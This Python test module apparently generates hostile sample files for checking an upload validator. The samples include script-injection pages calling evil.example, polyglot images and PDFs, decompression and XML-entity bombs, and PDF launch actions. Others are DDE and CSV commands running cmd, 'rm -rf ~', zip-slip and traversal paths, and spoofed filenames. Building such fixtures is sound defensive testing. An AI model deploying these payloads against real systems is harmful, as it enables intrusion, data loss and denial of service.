"""Files that mean harm, each made by a function and as small as its trick allows; none was taken from anywhere."""

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from tests.resources.documents import bomb_of, odt, pdf_of, zipped
from tests.resources.pictures import photo

RUN = "window.ran=1;alert('ran');fetch('https://evil.example/x')"
PAGE = f'<script>{RUN}</script><img src=https://evil.example/x onerror="{RUN}">'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
DOCX = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
XLSX = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}
RELATION = '<Relationships><Relationship Id="r1" Type="http://x/relationships/{}" Target="{}" TargetMode="External"/>'
LAUGHS = "<!DOCTYPE x [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """`outcome` is why it is refused (a reason of FileRefused), or the type as which it is taken, harmless."""

    key: str
    name: str
    make: Callable[[], bytes]
    outcome: str


def found():
    return [Hostile(key, name, make, outcome) for key, (name, make, outcome) in _ALL.items()]


def png(*chunks, size=(1, 1)):
    """A PNG with these chunks, pairs of name and content, after its head."""
    head = (b"IHDR", struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0))
    content = b"\x89PNG\r\n\x1a\n"
    for name, data in (head, *chunks, (b"IDAT", zlib.compress(b"\0\0\0\0")), (b"IEND", b"")):
        content += struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
    return content


def gif_with_script():
    """Its width and height begin a comment of JavaScript, which ends behind the picture."""
    box = io.BytesIO()
    Image.new("P", (0x2A2F, 1)).save(box, "GIF")  # "/*" as a number
    return box.getvalue() + b"*/=1;" + RUN.encode()


def moving(kind, frames, size=(40, 40)):
    box = io.BytesIO()
    first, *others = (Image.new("RGB", size, (n % 256, 0, n // 256)) for n in range(frames))
    first.save(box, kind, save_all=True, append_images=others)
    return box.getvalue()


def huge_gif():
    return b"GIF89a\xff\xff\xff\xff\x80\x00\x00\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\x02D\x01\0;"


def huge_jpeg():
    """A photo whose head says that it has 65,500 × 65,500 pixels."""
    content = bytearray(photo("JPEG"))
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", 65_500, 65_500)
    return bytes(content)


def overlapping():
    """Parts that all lie at the same place: 4 MB, told of a hundred times."""
    whole = zipped(DOCX | {"word/a.bin": bytes(4_000_000)})
    start, end = whole.index(b"PK\x01\x02"), whole.rindex(b"PK\x05\x06")
    entry = whole.rindex(b"PK\x01\x02")
    directory = whole[start:end] + whole[entry:end] * 100
    return whole[:start] + directory + struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, 103, 103, len(directory), start, 0
    )  # fmt: skip


def locked(content):
    """A ZIP whose parts say that they need a password."""
    content = bytearray(content)
    for mark, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + flag] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def stream(content, words=b""):
    packed = zlib.compress(content)
    return b"<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (words, len(packed), packed)


def flate_bomb():
    """300 MB of a page's drawing in 300 kB."""
    packer, packed = zlib.compressobj(), b""
    for _ in range(300):
        packed += packer.compress(b"q Q " * 250_000)
    packed += packer.flush()
    bomb = b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
    return pdf_of("x", extra=[bomb]).replace(b"/Contents 11 0 R", b"/Contents 100 0 R")


def endless_pages():
    """A page tree that has itself as a branch."""
    return pdf_of("x").replace(b"/Kids[10 0 R]", b"/Kids[2 0 R ]")


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
EMBEDDED = (
    b"<</Type/Filespec/F(run.exe)/EF<</F 101 0 R>>>>", b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
)  # fmt: skip
HTML_OF_ALL = f"""<!doctype html><html lang="es" onload="{RUN}"><head><title>Hola</title>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style></head>
<body onload="{RUN}" background="https://evil.example/z"><h1 style="background:url(https://evil.example/u)">Hola</h1>
{PAGE}<svg><script>{RUN}</script><a xlink:href="javascript:{RUN}"><text>s</text></a></svg>
<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>
<form action="https://evil.example/"><input autofocus onfocus="{RUN}"><button>f</button></form>
<a href="javascript:{RUN}">a</a><a href="data:text/html,{PAGE}">b</a><object data="https://evil.example/o"></object>
<video src="https://evil.example/v" autoplay></video><math><mtext><script>{RUN}</script></mtext></math>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript><p>Bienvenidas</p></body></html>""".encode()

_ALL = {
    # Pages and scripts
    "svg": ("drawing.svg", lambda: f'<svg xmlns="http://www.w3.org/2000/svg">{PAGE}</svg>'.encode(), "page"),
    "svg as png": ("drawing.png", lambda: f'<?xml version="1.0"?><svg onload="{RUN}"/>'.encode(), "page"),
    "packed svg": ("drawing.svgz", lambda: zlib.compress(PAGE.encode(), wbits=31), "archive"),
    "html as png": ("photo.png", PAGE.encode, "page"),
    "html in utf-16": ("notes.txt", lambda: PAGE.encode("utf-16"), "page"),
    "html after words": ("notes.txt", lambda: ("Dear all,\n" * 2000 + PAGE).encode(), "page"),
    "styled xml": ("a.xml", lambda: b'<?xml version="1.0"?><?xml-stylesheet href="https://evil.example"?><a/>', "page"),
    "html application": ("a.hta", lambda: f"<hta:application>{PAGE}".encode(), "page"),
    "mail with a page": ("a.mht", lambda: f"MIME-Version: 1.0\n\n<html>{PAGE}".encode(), "page"),
    "html": ("pagina.html", lambda: HTML_OF_ALL, "text/html"),
    "html of scripts only": ("a.html", PAGE.encode, "page"),
    "html in utf-7": (
        "a.html", lambda: b"<meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html",
    ),
    "deep html": ("a.htm", lambda: b"<div>" * 200_000 + b"deep", "page"),
    "shell script": ("a.html", lambda: b"#!/bin/sh\nrm -rf ~", "page"),
    "script of words": ("run.js", lambda: RUN.encode(), "text/plain"),
    "internet shortcut": ("a.url", lambda: b"[InternetShortcut]\nURL=file:///c:/windows", "text/plain"),
    # Portable documents
    "pdf with script": ("a.pdf", lambda: pdf_of("x", catalog=b"/OpenAction 100 0 R", extra=[SCRIPT]), "active"),
    "pdf that starts": ("a.pdf", lambda: pdf_of("x", catalog=b"/OpenAction<</S /Launch/F(cmd.exe)>>"), "active"),
    "pdf with hidden script": (
        "a.pdf", lambda: pdf_of("x", extra=[stream(b"5 0 " + SCRIPT, b"/Type/ObjStm/N 1/First 4")]), "active",
    ),
    "pdf with a file": ("a.pdf", lambda: pdf_of("x", catalog=b"/Names<</EmbeddedFiles<</Names[(a)100 0 R]>>>>",
        extra=EMBEDDED), "application/pdf"),
    "pdf and zip": ("a.pdf", lambda: pdf_of("x") + zipped({"run.exe": b"MZ"}), "application/pdf"),
    "pdf and html": ("a.pdf", lambda: b"%PDF-1.7\n%\0\n" + PAGE.encode() + pdf_of("x"), "application/pdf"),
    "pdf bomb": ("a.pdf", flate_bomb, "application/pdf"),
    "pdf of endless pages": ("a.pdf", endless_pages, "application/pdf"),
    "pdf of many pages": ("a.pdf", lambda: pdf_of(*[""] * 2_001), "pages"),
    # Pictures
    "gif and script": ("a.gif", gif_with_script, "image/gif"),
    "jpeg and html": ("a.jpg", lambda: photo("JPEG") + PAGE.encode(), "image/jpeg"),
    "png and zip": ("a.png", lambda: png() + zipped({"run.exe": b"MZ"}), "image/png"),
    "photo with a place": ("a.jpg", lambda: photo("JPEG"), "image/jpeg"),
    "png of many pixels": ("a.png", lambda: png(size=(60_000, 60_000)), "picture"),
    "gif of many pixels": ("a.gif", huge_gif, "picture"),
    "jpeg of many pixels": ("a.jpg", huge_jpeg, "picture"),
    "webp of many pixels": (
        "a.webp", lambda: b"RIFF\x1e\0\0\0WEBPVP8L\x11\0\0\0/\xff\xff\xff\x0f" + bytes(13), "picture",
    ),
    "png with a long text": (
        "a.png", lambda: png((b"zTXt", b"a\0\0" + zlib.compress(bytes(80_000_000)))), "picture",
    ),
    "png with a huge chunk": ("a.png", lambda: png()[:33] + b"\x7f\xff\xff\xffaaAa" + bytes(99), "picture"),
    "gif of a thousand frames": ("a.gif", lambda: moving("GIF", 1000), "image/gif"),
    "png of frames": ("a.png", lambda: moving("PNG", 50), "unknown"),
    "mpo": ("a.jpg", lambda: moving("MPO", 3) + PAGE.encode(), "image/jpeg"),
    # Archives and office documents
    "zip": ("a.zip", lambda: zipped({"a.txt": "x"}), "archive"),
    "zip in zip": ("a.docx", lambda: zipped({"a.zip": zipped({"b.zip": zipped({"c": "x"})})}), "archive"),
    "locked zip": ("a.zip", lambda: locked(zipped({"a.txt": "x"})), "archive"),
    "locked word": ("a.docx", lambda: locked(zipped(DOCX)), "unknown"),
    "word bomb": ("a.docx", lambda: zipped(DOCX | {"word/a.xml": bomb_of(b"<a>", bytes(1_000_000), 250)}), "packed"),
    "overlapping parts": ("a.docx", overlapping, "packed"),
    "six thousand parts": ("a.docx", lambda: zipped(DOCX | {f"word/{n}": "" for n in range(6_000)}), "packed"),
    "endless list of parts": ("a.docx", lambda: zipped(DOCX | {f"word/{n}": "" for n in range(25_000)}), "packed"),
    "word of laughs": ("a.docx", lambda: zipped(DOCX | {"word/document.xml": LAUGHS + "]><a>&j;</a>"}), "packed"),
    "paths out of the box": ("a.docx", lambda: zipped(DOCX | {"../../../etc/cron.d/x": "x"}), "unknown"),
    "word with macros": ("a.docm", lambda: zipped(DOCX | {"word/vbaProject.bin": "x"}), "macros"),
    "sheet with macros": ("a.xlsm", lambda: zipped(XLSX | {"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    "word with controls": ("a.docx", lambda: zipped(DOCX | {"word/activeX/activeX1.bin": "x"}), "macros"),
    "old word with macros": ("a.doc", lambda: OLE + "WordDocument_VBA_PROJECT".encode("utf-16-le"), "macros"),
    "odt with macros": ("a.odt", lambda: odt("x", **{"Basic/Standard/m.xml": "x"}), "macros"),
    "word with a template elsewhere": ("a.docx", lambda: zipped(DOCX | {"word/_rels/settings.xml.rels":
        RELATION.format("attachedTemplate", "https://evil.example/t.dotm")}), "active"),
    "word with a packed program": ("a.docx", lambda: zipped(DOCX | {"word/embeddings/oleObject1.bin":
        OLE + "\x01Ole10Native".encode("utf-16-le")}), "active"),
    "word that calls a program": ("a.docx", lambda: zipped(DOCX | {"word/document.xml":
        '<w:p><w:instrText xml:space="preserve"> DDEAUTO c:\\cmd.exe "/k"</w:instrText></w:p>'}), "active"),
    "sheet that calls a program": ("a.xlsx", lambda: zipped(XLSX | {"xl/externalLinks/externalLink1.xml":
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}), "active"),
    "csv that calls a program": ("a.csv", lambda: b"day,who\n1,\"=cmd|'/C calc'!A0\"\n", "active"),
    "csv with formulas": ("a.csv", lambda: b'a,b\n=1+1,"=HYPERLINK(""https://evil.example"",""x"")"\n', "text/csv"),
    # Programs and names
    "program as pdf": ("a.pdf", lambda: b"MZ\x90\x00\x03\x00\x00\x00" + bytes(99), "unknown"),
    "link of windows": ("a.lnk", lambda: b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60), "unknown"),
    "rich text": ("a.doc", lambda: b"{\\rtf1{\\object\\objdata 0105}}", "unknown"),
    "text with nulls": ("a.txt", lambda: b"harmless\0<script>", "unknown"),
    "java archive": ("a.pdf", lambda: zipped({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": "x"}), "archive"),
    "name that turns round": ("cod.\u202efdp.exe", lambda: b"Dear all", "text/plain"),
    "name with a path": ("..\\..//../etc/passwd\0.html", lambda: b"Dear all", "text/plain"),
    "name that is a page": ('"><img src=x onerror=alert(1)>.txt', lambda: b"Dear all", "text/plain"),
    "sound and page": ("a.mp3", lambda: b"ID3\x03\0\0\0\0\0\0" + PAGE.encode() + bytes(99), "audio/mpeg"),
    "film and page": ("a.mp4", lambda: b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + PAGE.encode() + bytes(9), "video/mp4"),
}  # fmt: skip
